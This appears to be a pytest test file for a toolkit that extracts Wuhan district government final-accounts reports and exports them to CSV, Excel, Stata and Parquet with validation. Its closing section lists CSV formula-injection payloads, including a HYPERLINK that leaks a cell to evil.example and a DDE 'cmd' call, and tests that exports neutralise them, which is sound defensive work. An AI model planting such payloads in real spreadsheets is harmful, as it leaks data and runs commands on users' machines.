"""A researcher's API and exports: `from helpers import load`, `python -m helpers export` in every
format, datapackage.json validated by frictionless, and `debug-table`.

The shipped corpus (data/raw) is extracted once for this module by the CLI, as a researcher would.
"""

from __future__ import annotations

import csv
import json
import math
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from helpers.cli import main
from helpers.core import schema
from helpers.core.paths import REPO_ROOT, raw_files

from .conftest import HANYANG, HONGSHAN, JIANGHAN, PDF_CZJ, QIAOKOU, QINGSHAN

# Department names as printed in the reports' titles (data/raw, line 2-3 of each text file).
DEPARTMENTS = {
    HONGSHAN: "武汉市洪山区人民政府办公室",
    HANYANG: "武汉市汉阳区人民政府办公室",
    JIANGHAN: "武汉市江汉区人民政府办公室",
    QINGSHAN: "武汉市青山区人民政府办公室",
    QIAOKOU: "中国共产党武汉市硚口区委员会办公室",
}


@pytest.fixture(scope="module")
def processed(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("processed")
    assert main(["extract", *map(str, raw_files()), "--out", str(out)]) == 0
    return out


@pytest.fixture(scope="module")
def corpus(processed):
    from helpers import load

    return load(processed)


def _export(processed: Path, fmt: str, out: Path) -> Path:
    assert main(["export", "--format", fmt, "--out", str(out), "--processed", str(processed)]) == 0
    return out


@pytest.fixture(scope="module")
def csv_dir(processed, tmp_path_factory) -> Path:
    return _export(processed, "csv", tmp_path_factory.mktemp("csv"))


# -- load() ------------------------------------------------------------------------------------


def test_import_helpers_stays_light_and_load_is_the_studies_one():
    code = (
        "import sys, helpers; assert 'pandas' not in sys.modules, 'import helpers imported pandas'; "
        "from helpers import load; import helpers.data.load as m; assert load is m.load; "
        "assert 'load' in dir(helpers)"
    )
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert r.returncode == 0, r.stderr


def test_each_dataset_is_an_attribute_with_a_docstring(corpus):
    from helpers.data.load import Corpus

    for ds in schema.DATASETS:
        assert ds in dir(corpus)
        assert getattr(corpus, ds) is corpus[ds]
        assert getattr(Corpus, ds).__doc__ == f"`{ds}` (DataFrame): {schema.SUMMARY[ds]}"
    assert set(corpus.reports.department) >= set(DEPARTMENTS.values())
    with pytest.raises(AttributeError):
        corpus.line_itmes  # noqa: B018 - a typo is an AttributeError, not an empty frame


def test_datasets_complete_at_the_prompt(corpus):
    import rlcompleter

    assert rlcompleter.Completer({"c": corpus}).complete("c.line_", 0) == "c.line_items"
    from IPython.core.completer import provisionalcompleter
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance()
    try:
        shell.user_ns["c"] = corpus
        with provisionalcompleter():
            assert [x.text for x in shell.Completer.completions("c.thr", 5)] == ["three_public"]
        # `c.three_public?` shows the dataset's sentence, not DataFrame's docstring
        assert shell.object_inspect("c.three_public")["docstring"].startswith("`three_public` (DataFrame): 三公经费")
    finally:
        InteractiveShell.clear_instance()  # a singleton: leave none behind for the next test


def test_describe_prints_datasets_rows_columns_and_units(corpus, capsys):
    corpus.describe()
    out = capsys.readouterr().out
    for ds in schema.DATASETS:
        n = len(corpus[ds])
        assert f"{ds}: {n:,} rows from {corpus.n_reports(corpus[ds])} reports, {len(schema.columns(ds))} columns" in out
    assert "amount_wan [万元]" in out and "rate_printed_pct [percent]" in out
    corpus.describe("three_public")
    one = capsys.readouterr().out
    assert "  final_wan (float64, 万元): Outturn in 万元" in one
    with pytest.raises(KeyError, match="no dataset 'lineitems'"):
        corpus.describe("lineitems")


# -- CSV ---------------------------------------------------------------------------------------


def test_csv_has_a_bom_and_excel_reads_the_chinese(csv_dir, corpus):
    assert sorted(p.name for p in csv_dir.glob("*.csv")) == sorted(f"{ds}.csv" for ds in schema.DATASETS)
    raw = (csv_dir / "reports.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with open(csv_dir / "reports.csv", encoding="utf-8-sig", newline="") as fh:  # as Excel reads it
        rows = {r["source_file"]: r for r in csv.DictReader(fh)}
    for path, name in DEPARTMENTS.items():
        assert name in path.read_text(encoding="utf-8-sig")  # printed so in the report
        row = rows[path.relative_to(REPO_ROOT).as_posix()]
        assert row["department"] == name
    hongshan = rows[HONGSHAN.relative_to(REPO_ROOT).as_posix()]
    assert hongshan["fiscal_year"] == "2021" and hongshan["district"] == "洪山区"
    assert json.loads(hongshan["tables_missing"]) == ["T1"]  # 表1 lost in conversion (MANIFEST.md)


def test_csv_reads_back_equal(csv_dir, corpus):
    for ds in schema.DATASETS:
        back = pd.read_csv(csv_dir / f"{ds}.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
        assert list(back.columns) == schema.columns(ds)
        assert len(back) == len(corpus[ds])
        for col, dtype, _ in schema.DATASETS[ds]:
            for want, got in zip(corpus[ds][col], back[col]):
                _same(want, got if got != "" else None, dtype, ds, col)


# -- datapackage.json ----------------------------------------------------------------------------


def _validate(folder: Path) -> dict:
    r = subprocess.run(
        [str(Path(sys.executable).parent / "frictionless"), "validate", "--json", "datapackage.json"],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
    )
    return json.loads(r.stdout)


def test_exported_datapackage_validates_against_the_csv(csv_dir):
    desc = json.loads((csv_dir / "datapackage.json").read_text(encoding="utf-8"))
    res = {r["name"]: r for r in desc["resources"]}
    assert list(res) == list(schema.DATASETS)
    assert res["reports"]["schema"]["primaryKey"] == ["report_id"]
    assert res["line_items"]["schema"]["foreignKeys"] == [
        {"fields": ["report_id"], "reference": {"resource": "reports", "fields": ["report_id"]}}
    ]
    amount = next(f for f in res["line_items"]["schema"]["fields"] if f["name"] == "amount_wan")
    assert amount["type"] == "number" and amount["unit"] == "万元"
    status = next(f for f in res["reports"]["schema"]["fields"] if f["name"] == "status")
    assert status["constraints"]["enum"] == ["ok", "partial", "failed"]
    report = _validate(csv_dir)
    assert report["valid"], [(t["name"], t["errors"][:3]) for t in report["tasks"] if not t["valid"]]
    assert {t["name"]: t["stats"]["rows"] for t in report["tasks"]}["reports"] == len(raw_files())


def _tamper(src: Path, dst: Path, dataset: str, column: str, value: str) -> Path:
    """A copy of the package holding `dataset` (its first 20 rows, one cell of the first changed)
    and `reports`, which report_id points into."""
    keep = {dataset, "reports"}
    dst.mkdir()
    desc = json.loads((src / "datapackage.json").read_text(encoding="utf-8"))
    desc["resources"] = [r for r in desc["resources"] if r["name"] in keep]
    (dst / "datapackage.json").write_text(json.dumps(desc, ensure_ascii=False), encoding="utf-8")
    for ds in keep:
        shutil.copy(src / f"{ds}.csv", dst)
    path = dst / f"{dataset}.csv"
    df = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False).head(20)
    df.loc[0, column] = value
    df.to_csv(path, index=False, encoding="utf-8-sig")
    return dst


def _errors(folder: Path) -> dict[str, list]:
    """dataset → errors, by frictionless (in this process: the CLI's start-up is paid once above)."""
    import frictionless

    report = frictionless.validate(str(folder / "datapackage.json"))
    return {t.name: t.errors for t in report.tasks if t.errors}


@pytest.mark.parametrize(
    "dataset, column, value, error",
    [
        ("reports", "status", "okay", "constraint-error"),  # not one of ok / partial / failed
        ("line_items", "report_id", "999_not_a_report", "foreign-key"),
        ("line_items", "amount_wan", "1,234.5", "type-error"),  # a formatted number is not a number
        ("line_items", "table", "表3", "constraint-error"),  # not a table code
        ("table_readings", "table", "", "constraint-error"),  # blank, in the primary key (required)
    ],
)
def test_a_tampered_csv_fails_validation(csv_dir, tmp_path, dataset, column, value, error):
    assert not _errors(_tamper(csv_dir, tmp_path / "ok", dataset, column, _first(csv_dir, dataset, column)))
    bad = _errors(_tamper(csv_dir, tmp_path / "pkg", dataset, column, value))
    assert list(bad) == [dataset]
    assert {e.type for e in bad[dataset]} == {error}
    assert [e.row_number for e in bad[dataset]] == [2]  # the first data row, the one changed


def _first(folder: Path, dataset: str, column: str) -> str:
    return pd.read_csv(folder / f"{dataset}.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)[column][0]


def test_a_duplicated_report_fails_the_primary_key(csv_dir, tmp_path):
    dst = _tamper(csv_dir, tmp_path / "pkg", "reports", "status", _first(csv_dir, "reports", "status"))
    lines = (dst / "reports.csv").read_text(encoding="utf-8-sig").splitlines(keepends=True)
    (dst / "reports.csv").write_text("".join(lines + lines[1:2]), encoding="utf-8-sig")
    bad = _errors(dst)
    assert list(bad) == ["reports"] and {e.type for e in bad["reports"]} == {"primary-key"}


def test_extract_writes_a_datapackage_beside_the_datasets(processed):
    desc = json.loads((processed / "datapackage.json").read_text(encoding="utf-8"))
    res = {r["name"]: r for r in desc["resources"]}
    assert list(res) == list(schema.DATASETS)
    for r in res.values():
        assert r["format"] == "parquet" and (processed / r["path"]).exists()
    # the data validates too, as a researcher would run it: `frictionless validate` exits 0 (list
    # columns are `any` there: frictionless's Parquet reader hands list cells over as numpy arrays,
    # which its own `array` type refuses, 128 type errors on the corpus)
    notes = next(f for f in res["reports"]["schema"]["fields"] if f["name"] == "notes")
    assert notes["type"] == "any" and "list of strings" in notes["description"]
    r = subprocess.run(
        [str(Path(sys.executable).parent / "frictionless"), "validate", "--json", "datapackage.json"],
        cwd=processed,
        capture_output=True,
        text=True,
        check=False,
    )
    report = json.loads(r.stdout)
    assert r.returncode == 0 and report["valid"], [(t["name"], t["errors"][:3]) for t in report["tasks"] if t["errors"]]
    assert {t["name"]: t["stats"]["rows"] for t in report["tasks"]}["reports"] == len(raw_files())


def test_datapackage_describes_the_parts_of_a_partitioned_dataset(tmp_path):
    from helpers.data.datapackage import write_for_processed

    (tmp_path / "line_items").mkdir()
    for part in ("report_id=a/part-0.parquet", "report_id=b/part-0.parquet"):
        (tmp_path / "line_items" / part).parent.mkdir(parents=True)
        (tmp_path / "line_items" / part).write_bytes(b"")
    (tmp_path / "reports.parquet").write_bytes(b"")
    (tmp_path / "VERSION").write_text("x\n")
    desc = json.loads(
        write_for_processed(
            tmp_path, [tmp_path / "reports.parquet", tmp_path / "line_items", tmp_path / "VERSION"]
        ).read_text(encoding="utf-8")
    )
    assert [(r["name"], r["path"]) for r in desc["resources"]] == [
        ("reports", "reports.parquet"),
        ("line_items", ["line_items/report_id=a/part-0.parquet", "line_items/report_id=b/part-0.parquet"]),
    ]


# -- Excel -------------------------------------------------------------------------------------


def test_xlsx_has_a_sheet_per_dataset_and_the_columns_and_reads_back_equal(processed, corpus, tmp_path):
    import openpyxl

    out = _export(processed, "xlsx", tmp_path)
    wb = openpyxl.load_workbook(out / "juesuan.xlsx", read_only=True)
    assert wb.sheetnames == ["columns", *schema.DATASETS]
    cols = list(wb["columns"].iter_rows(values_only=True))
    assert cols[0] == ("dataset", "column", "type", "unit", "values", "meaning")
    described = {(r[0], r[1]): r for r in cols[1:]}
    assert len(described) == sum(len(c) for c in schema.DATASETS.values())
    assert described["line_items", "amount_wan"][2:4] == ("float64", "万元")
    assert described["reports", "department"][5] == "Department as printed in the report title."
    for ds in schema.DATASETS:
        rows = list(wb[ds].iter_rows(values_only=True))
        assert list(rows[0]) == schema.columns(ds)
        assert len(rows) - 1 == len(corpus[ds])
        for j, (col, dtype, _) in enumerate(schema.DATASETS[ds]):
            for want, row in zip(corpus[ds][col], rows[1:]):
                _same(want, row[j], dtype, ds, col, digits=15)
    wb.close()


# -- Stata -------------------------------------------------------------------------------------


def test_dta_round_trips_with_pandas(processed, corpus, tmp_path):
    out = _export(processed, "dta", tmp_path)
    for ds in schema.DATASETS:
        with pd.io.stata.StataReader(out / f"{ds}.dta") as reader:
            back = reader.read()
            labels = reader.variable_labels()
            data_label = reader.data_label
        assert list(back.columns) == schema.columns(ds)
        assert len(back) == len(corpus[ds])
        assert data_label.startswith(f"{ds}: ")
        for col, dtype, meaning in schema.DATASETS[ds]:
            assert labels[col] == meaning.replace("`", "")[:80] or labels[col].endswith("…")
            for want, got in zip(corpus[ds][col], back[col]):
                if dtype == "string" and got == "":
                    got = None  # Stata has no missing string: null is written as ""
                _same(want, got, dtype, ds, col)
    reports = pd.read_stata(out / "reports.dta").set_index("source_file")
    hongshan = reports.loc[HONGSHAN.relative_to(REPO_ROOT).as_posix()]
    assert hongshan.department == DEPARTMENTS[HONGSHAN] and hongshan.fiscal_year == 2021
    with pd.io.stata.StataReader(out / "line_items.dta") as reader:
        assert "`" not in reader.variable_labels()["level"] and "类" in reader.variable_labels()["level"]


def test_stata_names_are_cut_to_32_characters_and_stay_unique():
    from helpers.data.export import stata_names

    long = "a_column_name_longer_than_stata_allows"
    names = stata_names([long, long + "_too", "short"])
    assert names == {long: long[:32], long + "_too": long[:30] + "_1", "short": "short"}


def test_stata_keeps_a_text_longer_than_a_str_column_holds(tmp_path):
    """Stata's str holds 2045 bytes; a longer text (3,000 bytes of Chinese here) goes into a strL."""
    from helpers.data.export import write_dta

    long_text = "本年度一般公共预算财政拨款支出" * 67  # 1,005 characters, 3,015 bytes in UTF-8
    df = schema.conform(
        pd.DataFrame(
            {
                "report_id": ["r1", "r2"],
                "item": ["total", "reception"],
                "final_wan": [12.5, None],
                "source_text": [long_text, None],
            }
        ),
        "three_public",
    )
    write_dta({"three_public": df}, tmp_path)
    back = pd.read_stata(tmp_path / "three_public.dta")
    assert back.source_text.tolist() == [long_text, ""]
    assert back.final_wan.iloc[0] == 12.5 and math.isnan(back.final_wan.iloc[1])


def test_excel_refuses_a_cell_longer_than_excel_holds_and_says_where(tmp_path):
    from helpers.data.export import ExportError, write_xlsx

    df = schema.conform(pd.DataFrame({"report_id": ["r1", "r2"], "source_text": ["短", "长" * 40_000]}), "three_public")
    with pytest.raises(
        ExportError,
        match=r"three_public.source_text, row 2: 40,000 characters, more than an Excel "
        r"cell holds \(32,767\)",
    ):
        write_xlsx({"three_public": df}, tmp_path)
    assert list(tmp_path.iterdir()) == []  # no half-written workbook


# -- Parquet and failures ----------------------------------------------------------------------


def test_parquet_copy_reads_back_equal(processed, corpus, tmp_path):
    out = _export(processed, "parquet", tmp_path)
    for ds in schema.DATASETS:
        back = schema.conform(pd.read_parquet(out / f"{ds}.parquet"), ds)
        pd.testing.assert_frame_equal(back, corpus[ds].reset_index(drop=True))


def test_missing_processed_folder_and_bad_format_say_so(tmp_path, capsys):
    missing = tmp_path / "no-such-folder"
    assert main(["export", "--format", "csv", "--out", str(tmp_path / "out"), "--processed", str(missing)]) == 1
    assert f"processed folder {missing} does not exist" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
    with pytest.raises(SystemExit) as exc:
        main(["export", "--format", "sav", "--out", str(tmp_path / "out")])
    assert exc.value.code == 2
    assert "invalid choice: 'sav' (choose from 'csv', 'xlsx', 'dta', 'parquet')" in capsys.readouterr().err


# -- debug-table -------------------------------------------------------------------------------


def test_debug_table_draws_what_the_table_finder_saw(tmp_path, capsys):
    from PIL import Image

    from helpers.read.document import open_pdf
    from helpers.tables.pdf_tables import plumber_tables

    out = tmp_path / "t7.png"
    # page 18 of the finance bureau's report: its 三公 table, six 预算数/决算数 pairs = 12 columns
    assert main(["debug-table", str(PDF_CZJ), "--page", "18", "--out", str(out)]) == 0
    assert "page 18 of 25: 1 table(s) found (6 rows × 12 columns)" in capsys.readouterr().out
    with Image.open(out) as im:
        im.verify()
    with Image.open(out) as im:
        assert im.format == "PNG"
        w, h = im.size
    with open_pdf(PDF_CZJ) as pdf:
        page = pdf.pages[17]
        assert w / h == pytest.approx(page.width / page.height, rel=0.01)
        assert w > h  # a landscape page
        assert len(plumber_tables(pdf, [18])) == 1  # what the extraction reads on that page


def test_debug_table_page_out_of_range_says_how_many_pages(tmp_path, capsys):
    out = tmp_path / "x.png"
    assert main(["debug-table", str(PDF_CZJ), "--page", "26", "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert f"{PDF_CZJ}: there is no page 26; the PDF has 25 pages (--page 1 to 25)" in err
    assert main(["debug-table", str(PDF_CZJ), "--page", "0", "--out", str(out)]) == 1
    assert "there is no page 0" in capsys.readouterr().err
    assert main(["debug-table", str(HONGSHAN), "--page", "1", "--out", str(out)]) == 1
    assert f"{HONGSHAN}: not a readable PDF" in capsys.readouterr().err
    assert not out.exists()


# -- comparing a value with what a format gave back ------------------------------------------------


def _same(want, got, dtype: str, ds: str, col: str, digits: int | None = None) -> None:
    """`got` (read back from a format) is `want`; `digits`: the format keeps that many significant
    digits of a float (Excel: 15)."""
    where = f"{ds}.{col}"
    if dtype == "list":
        assert (json.loads(got) if got not in (None, "") else []) == list(want), where
        return
    if dtype == "string" and isinstance(want, str) and want == "":
        want = None  # CSV, Stata and a blank Excel cell do not tell an empty text from a null one
    if want is None or (not isinstance(want, (list, tuple)) and pd.isna(want)):
        assert got is None or (isinstance(got, float) and math.isnan(got)) or got is pd.NaT or pd.isna(got), (
            f"{where}: {got!r} for null"
        )
        return
    if dtype == "string":
        assert got == want, where
    elif dtype in ("float64", "Int64"):
        if digits is None:
            assert float(got) == float(want), f"{where}: {got!r} != {want!r}"
        else:
            assert float(got) == pytest.approx(float(want), rel=10 ** -(digits - 1), abs=0), where
    elif dtype == "boolean":
        assert got in (True, False, 1, 0, "True", "False", 1.0, 0.0), where
        assert (got is True or got == 1 or got == "True") == bool(want), where
    elif dtype == "date":
        assert pd.Timestamp(got).date() == want, where
    else:
        raise AssertionError(f"{where}: unknown type {dtype}")


# -- formula injection (OWASP "CSV injection") -------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _injected_rows() -> pd.DataFrame:
    """line_items whose row labels are formula payloads, with a negative amount that must stay a number."""
    n = len(PAYLOADS)
    return schema.conform(
        pd.DataFrame(
            {
                "report_id": ["r1"] * (n + 1),
                "table": ["T1"] * (n + 1),
                "row_label": [*PAYLOADS, "一般公共服务支出"],
                "amount_wan": [-12.5] * n + [3.0],
            }
        ),
        "line_items",
    )


def test_csv_neutralises_every_formula_trigger_and_leaves_numbers(tmp_path):
    from helpers.data.export import write_csv

    write_csv({"line_items": _injected_rows()}, tmp_path)
    with open(tmp_path / "line_items.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["row_label"] for r in rows] == [f"'{p}" for p in PAYLOADS] + ["一般公共服务支出"]
    assert [r["amount_wan"] for r in rows] == ["-12.5"] * len(PAYLOADS) + ["3.0"]  # numbers untouched


def test_xlsx_writes_no_formula_cell_and_keeps_the_text(tmp_path):
    import openpyxl

    from helpers.data.export import write_xlsx

    write_xlsx({"line_items": _injected_rows()}, tmp_path)
    wb = openpyxl.load_workbook(tmp_path / "juesuan.xlsx")
    ws = wb["line_items"]
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    col = schema.columns("line_items").index("row_label") + 1
    cells = [ws.cell(row=i + 2, column=col) for i in range(len(PAYLOADS))]
    assert [c.value for c in cells] == PAYLOADS  # the text itself, as a text cell Excel will not evaluate
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    amount = ws.cell(row=2, column=schema.columns("line_items").index("amount_wan") + 1)
    assert amount.value == -12.5 and amount.data_type == "n"
